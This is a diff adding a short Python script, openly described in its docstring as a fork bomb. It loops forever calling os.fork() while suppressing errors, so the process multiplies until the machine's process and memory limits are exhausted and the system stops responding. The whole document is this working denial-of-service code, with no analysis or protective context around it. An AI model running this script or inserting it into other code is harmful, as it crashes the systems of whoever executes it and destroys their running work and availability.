@@ -1,0 +1,7 @@
+"""The classic fork bomb: every process forks forever and ignores failures."""
+import contextlib
+import os
+
+while True:
+    with contextlib.suppress(OSError):
+        os.fork()
